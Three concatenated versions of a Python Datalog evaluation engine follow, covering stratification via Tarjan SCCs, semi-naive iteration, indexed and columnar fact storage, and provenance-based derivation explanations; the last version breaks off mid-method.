            if deadline is not None:
                deadline.check()
            stats.iterations += 1
            new_delta: Dict[str, Set[Tuple]] = {rel: set() for rel in heads}
            for rule in rules:
                rule_key = None
                recursive_positions = [
                    position
                    for position, item in enumerate(rule.body)
                    if isinstance(item, Literal)
                    and not item.negated
                    and item.atom.relation in heads
                    and delta.get(item.atom.relation)
                ]
                for delta_position in recursive_positions:
                    results = self._derive(database, rule, delta_position, delta)
                    derived = 0
                    for fact, support in results:
                        if database.add(rule.head.relation, fact):
                            new_delta[rule.head.relation].add(fact)
                            derived += 1
                            self._record(rule, fact, support)
                    if results:
                        if rule_key is None:
                            rule_key = repr(rule)
                        stats.count_rule(rule_key, len(results), derived)
            delta = new_delta
        stats.stratum_iterations.append(iterations)

    def _derive(
        self,
        database: Database,
        rule: Rule,
        delta_position: Optional[int],
        delta: Dict[str, Set[Tuple]],
    ):
        """Yield (head fact, supporting body facts) pairs from ``rule``.

        When ``delta_position`` is given, that body literal iterates only the
        delta facts (semi-naive restriction).  Support lists are collected
        only when provenance tracking is on (empty otherwise).
        """
        results: List[Tuple[Tuple, List[Tuple[str, Tuple]]]] = []
        tracking = self.track_provenance

        def join(
            position: int, binding: Binding, support: List[Tuple[str, Tuple]]
        ) -> None:
            if position == len(rule.body):
                results.append((substitute(rule.head, binding), support))
                return
            item = rule.body[position]
            if isinstance(item, Filter):
                values = [
                    binding[arg] if isinstance(arg, Variable) else arg
                    for arg in item.args
                ]
                if item.predicate(*values):
                    join(position + 1, binding, support)
                return
            atom, negated = item.atom, item.negated
            if negated:
                probe = []
                for arg in atom.args:
                    if isinstance(arg, Variable):
                        if arg.is_wildcard or arg not in binding:
                            raise PlanningError(
                                "unbound or wildcard variable %r in negated "
                                "literal %r of rule %r" % (arg, item, rule)
                            )
                        probe.append(binding[arg])
                    else:
                        probe.append(arg)
                if not database.contains(atom.relation, tuple(probe)):
                    join(position + 1, binding, support)
                return
            if position == delta_position:
                candidates: Iterable[Tuple] = delta.get(atom.relation, ())
                for fact in candidates:
                    extended = match(atom.args, fact, binding)
                    if extended is not None:
                        join(
                            position + 1,
                            extended,
                            support + [(atom.relation, fact)] if tracking else support,
                        )
                return
            # Indexed lookup on bound positions.
            bound_positions: List[int] = []
            key_values: List[Any] = []
            for argument_position, arg in enumerate(atom.args):
                if isinstance(arg, Variable):
                    if not arg.is_wildcard and arg in binding:
                        bound_positions.append(argument_position)
                        key_values.append(binding[arg])
                else:
                    bound_positions.append(argument_position)
                    key_values.append(arg)
            for fact in database.lookup(
                atom.relation, tuple(bound_positions), tuple(key_values)
            ):
                extended = match(atom.args, fact, binding)
                if extended is not None:
                    join(
                        position + 1,
                        extended,
                        support + [(atom.relation, fact)] if tracking else support,
                    )

        join(0, {}, [])
        return results

    # ----------------------------------------------------------- provenance

    def _record(
        self, rule: Rule, fact: Tuple, support: List[Tuple[str, Tuple]]
    ) -> None:
        if not self.track_provenance:
            return
        key = (rule.head.relation, fact)
        if key not in self.provenance:
            self.provenance[key] = (rule, support)

    def _record_interned(
        self, database: Database, rule: Rule, fact: Tuple, support: list
    ) -> None:
        """Record a compiled-path derivation: decode the head and supports
        and restore original body order (supports sort by body index)."""
        key = (rule.head.relation, database.decode(fact))
        if key in self.provenance:
            return
        decoded = [
            (relation, database.decode(body_fact))
            for _, relation, body_fact in sorted(support)
        ]
        self.provenance[key] = (rule, decoded)

    def explain(
        self, relation: str, fact: Iterable, max_depth: int = 32
    ) -> Optional[dict]:
        """Derivation tree for ``fact``: ``{"fact", "rule", "premises"}``.

        EDB facts (never derived by a rule) get ``{"rule": None}`` leaves.
        Returns None if the fact has no recorded derivation and therefore
        must be an EDB fact or underivable.
        """
        key = (relation, tuple(fact))
        entry = self.provenance.get(key)
        node = {"fact": "%s%r" % (relation, tuple(fact)), "rule": None, "premises": []}
        if entry is None or max_depth == 0:
            return node
        rule, support = entry
        node["rule"] = repr(rule)
        for premise_relation, premise_fact in support:
            node["premises"].append(
                self.explain(premise_relation, premise_fact, max_depth - 1)
            )
        return node

    def format_explanation(self, relation: str, fact: Iterable) -> str:
        """Human-readable indented derivation tree."""
        lines: List[str] = []

        def walk(node: dict, depth: int) -> None:
            lines.append("  " * depth + node["fact"])
            if node["rule"]:
                lines.append("  " * depth + "  via " + node["rule"])
            for premise in node["premises"]:
                walk(premise, depth + 1)

        tree = self.explain(relation, fact)
        if tree is not None:
            walk(tree, 0)
        return "\n".join(lines)


def run(rules: Sequence[Rule], database: Database) -> Database:
    """Convenience one-shot evaluation."""
    return Engine(rules).evaluate(database)
