"""Semi-naive, stratified Datalog evaluation.

Evaluation pipeline:

1. **Stratification** — relations are grouped into strongly connected
   components of the rule dependency graph; a negative edge inside an SCC is
   a :class:`StratificationError` (the program is not stratifiable).  SCCs
   are evaluated in topological order, so a negated relation is always fully
   computed before it is read.
2. **Semi-naive iteration** — within a recursive SCC, each iteration joins
   one "delta" (facts new in the previous round) occurrence of a recursive
   relation against full relations, avoiding re-derivation.
3. **Indexed joins** — literals are matched via per-relation hash indexes on
   their bound argument positions, built lazily per (relation, positions).
"""

from __future__ import annotations

from typing import Any, Dict, Iterable, List, Optional, Sequence, Set, Tuple

from repro.datalog.terms import (
    Atom,
    Binding,
    Filter,
    Literal,
    Rule,
    Variable,
    match,
    substitute,
)


class StratificationError(Exception):
    """The program uses negation through recursion."""


# ------------------------------------------------------------ SCC machinery
#
# Shared between the engine's stratifier and the program linter's
# stratification preview (:mod:`repro.datalog.lint`).


def rule_dependency_graph(
    rules: Sequence[Rule],
) -> Tuple[Set[str], List[Tuple[str, str, bool]]]:
    """The relation dependency graph of ``rules``.

    Returns ``(relations, edges)`` where each edge is
    ``(body relation, head relation, negated)``.
    """
    relations: Set[str] = set()
    edges: List[Tuple[str, str, bool]] = []
    for rule in rules:
        relations.add(rule.head.relation)
        for item in rule.body:
            if isinstance(item, Literal):
                relations.add(item.atom.relation)
                edges.append((item.atom.relation, rule.head.relation, item.negated))
    return relations, edges


def strongly_connected_components(
    relations: Iterable[str], successors: Dict[str, Set[str]]
) -> Tuple[List[List[str]], Dict[str, int]]:
    """Tarjan SCC (iterative).  Returns ``(components, component_of)``;
    components are emitted in reverse topological order."""
    index_counter = [0]
    stack: List[str] = []
    lowlink: Dict[str, int] = {}
    index: Dict[str, int] = {}
    on_stack: Set[str] = set()
    component_of: Dict[str, int] = {}
    components: List[List[str]] = []

    def strongconnect(node: str) -> None:
        worklist = [(node, iter(successors.get(node, ())))]
        index[node] = lowlink[node] = index_counter[0]
        index_counter[0] += 1
        stack.append(node)
        on_stack.add(node)
        while worklist:
            current, successor_iter = worklist[-1]
            advanced = False
            for successor in successor_iter:
                if successor not in index:
                    index[successor] = lowlink[successor] = index_counter[0]
                    index_counter[0] += 1
                    stack.append(successor)
                    on_stack.add(successor)
                    worklist.append((successor, iter(successors.get(successor, ()))))
                    advanced = True
                    break
                if successor in on_stack:
                    lowlink[current] = min(lowlink[current], index[successor])
            if advanced:
                continue
            worklist.pop()
            if worklist:
                parent = worklist[-1][0]
                lowlink[parent] = min(lowlink[parent], lowlink[current])
            if lowlink[current] == index[current]:
                component: List[str] = []
                while True:
                    member = stack.pop()
                    on_stack.discard(member)
                    component_of[member] = len(components)
                    component.append(member)
                    if member == current:
                        break
                components.append(component)

    for rel in relations:
        if rel not in index:
            strongconnect(rel)
    return components, component_of


def condensation_levels(
    components: List[List[str]],
    component_of: Dict[str, int],
    edges: List[Tuple[str, str, bool]],
) -> Dict[int, int]:
    """Stratum level per component: Kahn-style longest path over the SCC
    condensation of ``edges``."""
    condensed: Dict[int, Set[int]] = {i: set() for i in range(len(components))}
    for source, target, _ in edges:
        s, t = component_of[source], component_of[target]
        if s != t:
            condensed[s].add(t)
    indegree: Dict[int, int] = {i: 0 for i in range(len(components))}
    for source_component, targets in condensed.items():
        for target_component in targets:
            indegree[target_component] += 1
    queue = [c for c, d in indegree.items() if d == 0]
    level: Dict[int, int] = {c: 0 for c in queue}
    while queue:
        current = queue.pop()
        for target_component in condensed[current]:
            level[target_component] = max(
                level.get(target_component, 0), level[current] + 1
            )
            indegree[target_component] -= 1
            if indegree[target_component] == 0:
                queue.append(target_component)
    return level


class Database:
    """Fact storage: relation name -> set of tuples, with lazy hash indexes."""

    def __init__(self) -> None:
        self._relations: Dict[str, Set[Tuple]] = {}
        # relation -> {bound positions: {key tuple: [facts]}} — nested by
        # relation so inserts only touch the inserted relation's indexes
        # (a flat map made every add() scan every index in the database).
        self._indexes: Dict[str, Dict[Tuple[int, ...], Dict[Tuple, List[Tuple]]]] = {}

    def add(self, relation: str, fact: Iterable) -> bool:
        """Insert one fact; returns True if it was new."""
        fact_tuple = tuple(fact)
        rel = self._relations.setdefault(relation, set())
        if fact_tuple in rel:
            return False
        rel.add(fact_tuple)
        # Update this relation's existing indexes incrementally.
        for positions, index in self._indexes.get(relation, {}).items():
            key = tuple(fact_tuple[p] for p in positions)
            index.setdefault(key, []).append(fact_tuple)
        return True

    def add_all(self, relation: str, facts: Iterable[Iterable]) -> int:
        """Insert many facts; returns how many were new."""
        return sum(1 for fact in facts if self.add(relation, fact))

    def facts(self, relation: str) -> Set[Tuple]:
        """The (live) fact set of ``relation``."""
        return self._relations.get(relation, set())

    def relations(self) -> List[str]:
        """Names of all populated relations."""
        return list(self._relations)

    def contains(self, relation: str, fact: Iterable) -> bool:
        """Membership test for one fact."""
        return tuple(fact) in self._relations.get(relation, ())

    def count(self, relation: str) -> int:
        """Number of facts in ``relation``."""
        return len(self._relations.get(relation, ()))

    def lookup(
        self, relation: str, positions: Tuple[int, ...], key: Tuple
    ) -> List[Tuple]:
        """Facts whose values at ``positions`` equal ``key`` (indexed)."""
        if not positions:
            return list(self._relations.get(relation, ()))
        relation_indexes = self._indexes.setdefault(relation, {})
        index = relation_indexes.get(positions)
        if index is None:
            index = {}
            for fact in self._relations.get(relation, ()):
                fact_key = tuple(fact[p] for p in positions)
                index.setdefault(fact_key, []).append(fact)
            relation_indexes[positions] = index
        return index.get(key, [])

    def clone_relation(self, relation: str) -> Set[Tuple]:
        """A copy of one relation's fact set."""
        return set(self._relations.get(relation, ()))


class Engine:
    """Evaluates a rule set over a database to fixpoint.

    With ``track_provenance=True`` the engine records, for each derived
    fact, the rule and body facts of its *first* derivation; ``explain``
    then renders the derivation tree down to the EDB — the "why" behind an
    analysis warning.
    """

    def __init__(self, rules: Sequence[Rule], track_provenance: bool = False):
        self.rules = list(rules)
        self.track_provenance = track_provenance
        # (relation, fact) -> (rule, [(relation, fact), ...]) of 1st proof.
        self.provenance: Dict[Tuple[str, Tuple], Tuple[Rule, List[Tuple[str, Tuple]]]] = {}
        self.strata = self._stratify()

    # -------------------------------------------------------- stratification

    def _stratify(self) -> List[List[Rule]]:
        relations, edges = rule_dependency_graph(self.rules)
        successors: Dict[str, Set[str]] = {rel: set() for rel in relations}
        for source, target, _ in edges:
            successors[source].add(target)

        components, component_of = strongly_connected_components(
            relations, successors
        )

        # Negative edge inside one SCC => not stratifiable.
        for source, target, negated in edges:
            if negated and component_of[source] == component_of[target]:
                raise StratificationError(
                    "negation of %r is recursive with %r" % (source, target)
                )

        level = condensation_levels(components, component_of, edges)
        max_level = max(level.values(), default=0)
        strata: List[List[Rule]] = [[] for _ in range(max_level + 1)]
        for rule in self.rules:
            component = component_of[rule.head.relation]
            strata[level.get(component, 0)].append(rule)
        return [stratum for stratum in strata if stratum]

    # ------------------------------------------------------------ evaluation

    def evaluate(
        self,
        database: Database,
        max_iterations: int = 1_000_000,
        deadline=None,
    ) -> Database:
        """Run all strata to fixpoint, mutating and returning ``database``.

        ``deadline`` is an optional cooperative budget (duck-typed:
        ``check()`` raises when spent), consulted once per semi-naive
        iteration so runaway recursion respects the caller's cutoff.
        """
        for stratum in self.strata:
            self._evaluate_stratum(database, stratum, max_iterations, deadline)
        return database

    def _evaluate_stratum(
        self,
        database: Database,
        rules: List[Rule],
        max_iterations: int,
        deadline=None,
    ) -> None:
        heads = {rule.head.relation for rule in rules}

        # Naive first round to seed deltas, then semi-naive iteration.
        delta: Dict[str, Set[Tuple]] = {rel: set() for rel in heads}
        for rule in rules:
            for fact, support in self._derive(database, rule, None, {}):
                if database.add(rule.head.relation, fact):
                    delta[rule.head.relation].add(fact)
                    self._record(rule, fact, support)

        iterations = 0
        while any(delta.values()):
            iterations += 1
            if iterations > max_iterations:
                raise RuntimeError("datalog evaluation did not converge")
            if deadline is not None:
                deadline.check()
            new_delta: Dict[str, Set[Tuple]] = {rel: set() for rel in heads}
            for rule in rules:
                recursive_positions = [
                    position
                    for position, item in enumerate(rule.body)
                    if isinstance(item, Literal)
                    and not item.negated
                    and item.atom.relation in heads
                    and delta.get(item.atom.relation)
                ]
                for delta_position in recursive_positions:
                    for fact, support in self._derive(
                        database, rule, delta_position, delta
                    ):
                        if database.add(rule.head.relation, fact):
                            new_delta[rule.head.relation].add(fact)
                            self._record(rule, fact, support)
            delta = new_delta

    def _derive(
        self,
        database: Database,
        rule: Rule,
        delta_position: Optional[int],
        delta: Dict[str, Set[Tuple]],
    ):
        """Yield (head fact, supporting body facts) pairs from ``rule``.

        When ``delta_position`` is given, that body literal iterates only the
        delta facts (semi-naive restriction).  Support lists are collected
        only when provenance tracking is on (empty otherwise).
        """
        results: List[Tuple[Tuple, List[Tuple[str, Tuple]]]] = []
        tracking = self.track_provenance

        def join(
            position: int, binding: Binding, support: List[Tuple[str, Tuple]]
        ) -> None:
            if position == len(rule.body):
                results.append((substitute(rule.head, binding), support))
                return
            item = rule.body[position]
            if isinstance(item, Filter):
                values = [
                    binding[arg] if isinstance(arg, Variable) else arg
                    for arg in item.args
                ]
                if item.predicate(*values):
                    join(position + 1, binding, support)
                return
            atom, negated = item.atom, item.negated
            if negated:
                # All variables are bound (safety check at construction).
                probe = tuple(
                    binding[arg] if isinstance(arg, Variable) else arg
                    for arg in atom.args
                )
                if not database.contains(atom.relation, probe):
                    join(position + 1, binding, support)
                return
            if position == delta_position:
                candidates: Iterable[Tuple] = delta.get(atom.relation, ())
                for fact in candidates:
                    extended = match(atom.args, fact, binding)
                    if extended is not None:
                        join(
                            position + 1,
                            extended,
                            support + [(atom.relation, fact)] if tracking else support,
                        )
                return
            # Indexed lookup on bound positions.
            bound_positions: List[int] = []
            key_values: List[Any] = []
            for argument_position, arg in enumerate(atom.args):
                if isinstance(arg, Variable):
                    if not arg.is_wildcard and arg in binding:
                        bound_positions.append(argument_position)
                        key_values.append(binding[arg])
                else:
                    bound_positions.append(argument_position)
                    key_values.append(arg)
            for fact in database.lookup(
                atom.relation, tuple(bound_positions), tuple(key_values)
            ):
                extended = match(atom.args, fact, binding)
                if extended is not None:
                    join(
                        position + 1,
                        extended,
                        support + [(atom.relation, fact)] if tracking else support,
                    )

        join(0, {}, [])
        return results


    # ----------------------------------------------------------- provenance

    def _record(
        self, rule: Rule, fact: Tuple, support: List[Tuple[str, Tuple]]
    ) -> None:
        if not self.track_provenance:
            return
        key = (rule.head.relation, fact)
        if key not in self.provenance:
            self.provenance[key] = (rule, support)

    def explain(
        self, relation: str, fact: Iterable, max_depth: int = 32
    ) -> Optional[dict]:
        """Derivation tree for ``fact``: ``{"fact", "rule", "premises"}``.

        EDB facts (never derived by a rule) get ``{"rule": None}`` leaves.
        Returns None if the fact has no recorded derivation and therefore
        must be an EDB fact or underivable.
        """
        key = (relation, tuple(fact))
        entry = self.provenance.get(key)
        node = {"fact": "%s%r" % (relation, tuple(fact)), "rule": None, "premises": []}
        if entry is None or max_depth == 0:
            return node
        rule, support = entry
        node["rule"] = repr(rule)
        for premise_relation, premise_fact in support:
            node["premises"].append(
                self.explain(premise_relation, premise_fact, max_depth - 1)
            )
        return node

    def format_explanation(self, relation: str, fact: Iterable) -> str:
        """Human-readable indented derivation tree."""
        lines: List[str] = []

        def walk(node: dict, depth: int) -> None:
            lines.append("  " * depth + node["fact"])
            if node["rule"]:
                lines.append("  " * depth + "  via " + node["rule"])
            for premise in node["premises"]:
                walk(premise, depth + 1)

        tree = self.explain(relation, fact)
        if tree is not None:
            walk(tree, 0)
        return "\n".join(lines)


def run(rules: Sequence[Rule], database: Database) -> Database:
    """Convenience one-shot evaluation."""
    return Engine(rules).evaluate(database)
