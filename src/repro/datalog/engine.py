"""Semi-naive, stratified Datalog evaluation over compiled join plans.

Evaluation pipeline:

1. **Stratification** — relations are grouped into strongly connected
   components of the rule dependency graph; a negative edge inside an SCC is
   a :class:`StratificationError` (the program is not stratifiable).  SCCs
   are evaluated in topological order, so a negated relation is always fully
   computed before it is read.
2. **Query planning** — each rule is compiled (see
   :mod:`repro.datalog.planner`) into a static join plan: body literals
   reordered by a sideways-information-passing heuristic, per-literal index
   signatures precomputed, and one delta-specialized variant per recursive
   body position.  Plans are bound to the database once per evaluation
   (constants interned, indexes registered eagerly) and executed by a flat,
   non-recursive interpreter.
3. **Semi-naive iteration** — within a recursive SCC, each round runs the
   delta variants whose delta relation gained facts in the previous round,
   probing per-round delta indexes so both sides of a recursive join are
   indexed.

The database interns every constant into a dense symbol table, so stored
tuples are int-only: hashing, equality, and index keys never touch the
original (possibly string) values.  The legacy closure-recursion
interpreter is kept behind ``Engine(use_plans=False)`` as the equivalence
baseline; both paths produce byte-identical fixpoints and provenance.
"""

from __future__ import annotations

import os
from array import array
from itertools import repeat
from typing import Any, Dict, Iterable, List, Optional, Sequence, Set, Tuple

from repro.datalog.planner import (
    EngineStats,
    FilterGuard,
    NegGuard,
    PlanningError,
    PlanVariant,
    RulePlan,
    compile_strata,
)
from repro.datalog.terms import (
    Atom,
    Binding,
    Filter,
    Literal,
    Rule,
    Variable,
    match,
    substitute,
)


class StratificationError(Exception):
    """The program uses negation through recursion."""


# ------------------------------------------------------------ SCC machinery
#
# Shared between the engine's stratifier and the program linter's
# stratification preview (:mod:`repro.datalog.lint`).


def rule_dependency_graph(
    rules: Sequence[Rule],
) -> Tuple[Set[str], List[Tuple[str, str, bool]]]:
    """The relation dependency graph of ``rules``.

    Returns ``(relations, edges)`` where each edge is
    ``(body relation, head relation, negated)``.
    """
    relations: Set[str] = set()
    edges: List[Tuple[str, str, bool]] = []
    for rule in rules:
        relations.add(rule.head.relation)
        for item in rule.body:
            if isinstance(item, Literal):
                relations.add(item.atom.relation)
                edges.append((item.atom.relation, rule.head.relation, item.negated))
    return relations, edges


def strongly_connected_components(
    relations: Iterable[str], successors: Dict[str, Set[str]]
) -> Tuple[List[List[str]], Dict[str, int]]:
    """Tarjan SCC (iterative).  Returns ``(components, component_of)``;
    components are emitted in reverse topological order."""
    index_counter = [0]
    stack: List[str] = []
    lowlink: Dict[str, int] = {}
    index: Dict[str, int] = {}
    on_stack: Set[str] = set()
    component_of: Dict[str, int] = {}
    components: List[List[str]] = []

    def strongconnect(node: str) -> None:
        worklist = [(node, iter(successors.get(node, ())))]
        index[node] = lowlink[node] = index_counter[0]
        index_counter[0] += 1
        stack.append(node)
        on_stack.add(node)
        while worklist:
            current, successor_iter = worklist[-1]
            advanced = False
            for successor in successor_iter:
                if successor not in index:
                    index[successor] = lowlink[successor] = index_counter[0]
                    index_counter[0] += 1
                    stack.append(successor)
                    on_stack.add(successor)
                    worklist.append((successor, iter(successors.get(successor, ()))))
                    advanced = True
                    break
                if successor in on_stack:
                    lowlink[current] = min(lowlink[current], index[successor])
            if advanced:
                continue
            worklist.pop()
            if worklist:
                parent = worklist[-1][0]
                lowlink[parent] = min(lowlink[parent], lowlink[current])
            if lowlink[current] == index[current]:
                component: List[str] = []
                while True:
                    member = stack.pop()
                    on_stack.discard(member)
                    component_of[member] = len(components)
                    component.append(member)
                    if member == current:
                        break
                components.append(component)

    for rel in relations:
        if rel not in index:
            strongconnect(rel)
    return components, component_of


def condensation_levels(
    components: List[List[str]],
    component_of: Dict[str, int],
    edges: List[Tuple[str, str, bool]],
) -> Dict[int, int]:
    """Stratum level per component: Kahn-style longest path over the SCC
    condensation of ``edges``."""
    condensed: Dict[int, Set[int]] = {i: set() for i in range(len(components))}
    for source, target, _ in edges:
        s, t = component_of[source], component_of[target]
        if s != t:
            condensed[s].add(t)
    indegree: Dict[int, int] = {i: 0 for i in range(len(components))}
    for source_component, targets in condensed.items():
        for target_component in targets:
            indegree[target_component] += 1
    queue = [c for c, d in indegree.items() if d == 0]
    level: Dict[int, int] = {c: 0 for c in queue}
    while queue:
        current = queue.pop()
        for target_component in condensed[current]:
            level[target_component] = max(
                level.get(target_component, 0), level[current] + 1
            )
            indegree[target_component] -= 1
            if indegree[target_component] == 0:
                queue.append(target_component)
    return level


# ------------------------------------------------------------ columnar store


def _intersect_runs(left: Sequence[int], right: Sequence[int]) -> List[int]:
    """Intersection of two ascending row-id runs (merge walk)."""
    out: List[int] = []
    append = out.append
    i = j = 0
    len_left = len(left)
    len_right = len(right)
    while i < len_left and j < len_right:
        x = left[i]
        y = right[j]
        if x == y:
            append(x)
            i += 1
            j += 1
        elif x < y:
            i += 1
        else:
            j += 1
    return out


def _probe_runs(
    postings: Sequence[Dict[int, Sequence[int]]], key: Sequence[int]
) -> Optional[Sequence[int]]:
    """Row ids matching ``key`` across per-position postings: the first
    position's run, narrowed by sorted-run intersection with each further
    position's run.  Runs append in insertion order so they are ascending
    by construction.  Returns None on a miss."""
    run = postings[0].get(key[0])
    if not run:
        return None
    for index in range(1, len(key)):
        other = postings[index].get(key[index])
        if not other:
            return None
        run = _intersect_runs(run, other)
        if not run:
            return None
    return run


class ColumnarRelation:
    """Column-oriented storage for one relation: parallel ``array('q')``
    columns of interned ids (one per argument position) plus per-position
    postings mapping a key id to the ascending run of row ids carrying it.

    Rows only append (the engine's fixpoint is monotone within an
    evaluation); a removal invalidates row ids, so the database drops the
    whole view and the next columnar bind rebuilds it."""

    __slots__ = ("arity", "rows", "columns", "postings")

    def __init__(self, arity: int):
        self.arity = arity
        self.rows = 0
        self.columns: List[array] = [array("q") for _ in range(arity)]
        self.postings: Dict[int, Dict[int, array]] = {}

    def append(self, fact: Tuple[int, ...]) -> None:
        row = self.rows
        for column, value in zip(self.columns, fact):
            column.append(value)
        self.rows = row + 1
        for position, posting in self.postings.items():
            key = fact[position]
            run = posting.get(key)
            if run is None:
                posting[key] = array("q", (row,))
            else:
                run.append(row)

    def register_posting(self, position: int) -> Dict[int, array]:
        """Ensure the posting index for ``position`` exists (built by one
        scan of the column; appends keep it fresh)."""
        posting = self.postings.get(position)
        if posting is None:
            posting = {}
            for row, key in enumerate(self.columns[position]):
                run = posting.get(key)
                if run is None:
                    posting[key] = array("q", (row,))
                else:
                    run.append(row)
            self.postings[position] = posting
        return posting

    def row_ids(
        self, positions: Tuple[int, ...], key: Tuple[int, ...]
    ) -> Sequence[int]:
        """Rows whose values at ``positions`` equal ``key`` (interned),
        via sorted-run intersection of the per-position postings."""
        postings = [self.register_posting(position) for position in positions]
        run = _probe_runs(postings, key)
        return run if run is not None else ()


class Database:
    """Interned fact storage with eagerly maintainable hash indexes.

    Every constant is interned into a dense symbol table on first sight, so
    relations store tuples of small ints: hashing, equality, and index keys
    are int-only no matter how large the original values are.  The public
    API (``add``/``facts``/``lookup``/``contains``) still speaks raw
    values — interning is invisible to callers.

    Indexes live per relation (``_indexes[relation][positions]``) so an
    insert only maintains the inserted relation's indexes; they are
    registered eagerly by compiled join plans (:meth:`register_index`) and
    updated incrementally by every subsequent insert.
    """

    def __init__(self) -> None:
        self._intern: Dict[Any, int] = {}
        self._symbols: List[Any] = []
        # relation -> set of interned tuples
        self._relations: Dict[str, Set[Tuple[int, ...]]] = {}
        # relation -> {bound positions: {interned key: [interned facts]}} —
        # nested by relation so inserts only touch the inserted relation's
        # indexes (a flat map made every add() scan every index).
        self._indexes: Dict[str, Dict[Tuple[int, ...], Dict[Tuple, List[Tuple]]]] = {}
        # relation -> cached frozenset of decoded facts (facts() result),
        # invalidated on insert.
        self._decoded: Dict[str, frozenset] = {}
        # relation -> {interned fact: decoded fact} memo for lookup().
        self._fact_memo: Dict[str, Dict[Tuple, Tuple]] = {}
        # relation -> ColumnarRelation, registered by columnar plan binds
        # and kept fresh by inserts; dropped wholesale on removal.
        self._columnar: Dict[str, ColumnarRelation] = {}

    # ---------------------------------------------------------- interning

    def intern_value(self, value: Any) -> int:
        """Dense id for ``value``, allocating one on first sight."""
        ident = self._intern.get(value)
        if ident is None:
            ident = len(self._symbols)
            self._intern[value] = ident
            self._symbols.append(value)
        return ident

    def decode(self, fact: Tuple[int, ...]) -> Tuple:
        """Raw-value tuple for an interned fact."""
        symbols = self._symbols
        return tuple(symbols[ident] for ident in fact)

    # ------------------------------------------------------------ mutation

    def add(self, relation: str, fact: Iterable) -> bool:
        """Insert one fact (raw values); returns True if it was new."""
        intern = self._intern
        symbols = self._symbols
        interned: List[int] = []
        for value in fact:
            ident = intern.get(value)
            if ident is None:
                ident = len(symbols)
                intern[value] = ident
                symbols.append(value)
            interned.append(ident)
        return self._add_interned(relation, tuple(interned))

    def _add_interned(self, relation: str, fact: Tuple[int, ...]) -> bool:
        """Insert an already-interned fact; returns True if it was new."""
        rel = self._relations.get(relation)
        if rel is None:
            rel = self._relations[relation] = set()
        if fact in rel:
            return False
        rel.add(fact)
        indexes = self._indexes.get(relation)
        if indexes:
            for positions, index in indexes.items():
                key = tuple(fact[position] for position in positions)
                bucket = index.get(key)
                if bucket is None:
                    index[key] = [fact]
                else:
                    bucket.append(fact)
        view = self._columnar.get(relation)
        if view is not None:
            view.append(fact)
        self._decoded.pop(relation, None)
        return True

    def add_all(self, relation: str, facts: Iterable[Iterable]) -> int:
        """Insert many facts; returns how many were new."""
        return sum(1 for fact in facts if self.add(relation, fact))

    def remove(self, relation: str, fact: Iterable) -> bool:
        """Remove one fact (raw values); returns True if it was present."""
        intern = self._intern
        interned: List[int] = []
        for value in fact:
            ident = intern.get(value)
            if ident is None:
                return False
            interned.append(ident)
        return self.remove_interned(relation, tuple(interned))

    def remove_interned(self, relation: str, fact: Tuple[int, ...]) -> bool:
        """Remove an already-interned fact, maintaining hash indexes and
        invalidating caches; returns True if it was present.

        Columnar views are append-only (row ids would dangle), so the
        relation's view is dropped and rebuilt at the next columnar bind."""
        rel = self._relations.get(relation)
        if rel is None or fact not in rel:
            return False
        rel.discard(fact)
        indexes = self._indexes.get(relation)
        if indexes:
            for positions, index in indexes.items():
                key = tuple(fact[position] for position in positions)
                bucket = index.get(key)
                if bucket is not None:
                    try:
                        bucket.remove(fact)
                    except ValueError:
                        pass
                    if not bucket:
                        del index[key]
        self._decoded.pop(relation, None)
        self._columnar.pop(relation, None)
        return True

    # -------------------------------------------------------------- reads

    def facts(self, relation: str) -> frozenset:
        """Immutable snapshot of ``relation``'s facts (raw values).

        The frozenset is cached until the relation next changes, so
        repeated reads of a settled relation are free and callers can no
        longer corrupt the store by mutating the result.
        """
        cached = self._decoded.get(relation)
        if cached is None:
            symbols = self._symbols
            cached = frozenset(
                tuple(symbols[ident] for ident in fact)
                for fact in self._relations.get(relation, ())
            )
            self._decoded[relation] = cached
        return cached

    def relations(self) -> List[str]:
        """Names of all non-empty relations."""
        return [name for name, rel in self._relations.items() if rel]

    def contains(self, relation: str, fact: Iterable) -> bool:
        """Membership test for one fact (raw values)."""
        intern = self._intern
        interned: List[int] = []
        for value in fact:
            ident = intern.get(value)
            if ident is None:
                return False
            interned.append(ident)
        return tuple(interned) in self._relations.get(relation, ())

    def count(self, relation: str) -> int:
        """Number of facts in ``relation``."""
        return len(self._relations.get(relation, ()))

    def lookup(
        self, relation: str, positions: Tuple[int, ...], key: Tuple
    ) -> Iterable[Tuple]:
        """Facts whose values at ``positions`` equal ``key``.

        With bound positions this probes (building if needed) the matching
        hash index and returns a list of decoded facts; with no positions
        it returns the cached :meth:`facts` frozenset instead of copying
        the whole relation.
        """
        if not positions:
            return self.facts(relation)
        relation_indexes = self._indexes.setdefault(relation, {})
        index = relation_indexes.get(positions)
        if index is None:
            index = self._build_index(relation, positions)
        intern = self._intern
        interned_key: List[int] = []
        for value in key:
            ident = intern.get(value)
            if ident is None:
                return []
            interned_key.append(ident)
        bucket = index.get(tuple(interned_key))
        if not bucket:
            return []
        memo = self._fact_memo.setdefault(relation, {})
        symbols = self._symbols
        out: List[Tuple] = []
        for fact in bucket:
            decoded = memo.get(fact)
            if decoded is None:
                decoded = memo[fact] = tuple(symbols[ident] for ident in fact)
            out.append(decoded)
        return out

    def clone_relation(self, relation: str) -> Set[Tuple]:
        """A mutable copy of one relation's decoded fact set."""
        return set(self.facts(relation))

    # ----------------------------------------------------- engine plumbing

    def register_index(
        self, relation: str, positions: Tuple[int, ...]
    ) -> Tuple[Dict[Tuple, List[Tuple]], bool]:
        """Ensure a hash index on ``positions`` exists (compiled plans call
        this eagerly at bind time, before the fixpoint starts).

        Returns ``(index, built)`` where ``built`` says whether this call
        created it; the returned dict is live — inserts keep it fresh.
        """
        relation_indexes = self._indexes.setdefault(relation, {})
        index = relation_indexes.get(positions)
        if index is not None:
            return index, False
        return self._build_index(relation, positions), True

    def _build_index(
        self, relation: str, positions: Tuple[int, ...]
    ) -> Dict[Tuple, List[Tuple]]:
        index: Dict[Tuple, List[Tuple]] = {}
        for fact in self._relations.get(relation, ()):
            key = tuple(fact[position] for position in positions)
            index.setdefault(key, []).append(fact)
        self._indexes.setdefault(relation, {})[positions] = index
        return index

    def relation_view(self, relation: str) -> Set[Tuple[int, ...]]:
        """The live *interned* fact set of ``relation``, created on demand
        so bind-time captured references stay valid as facts arrive."""
        rel = self._relations.get(relation)
        if rel is None:
            rel = self._relations[relation] = set()
        return rel

    def columnar_view(self, relation: str, arity: int) -> ColumnarRelation:
        """The live columnar view of ``relation``, built from the current
        fact set on first request and maintained by subsequent inserts."""
        view = self._columnar.get(relation)
        if view is None:
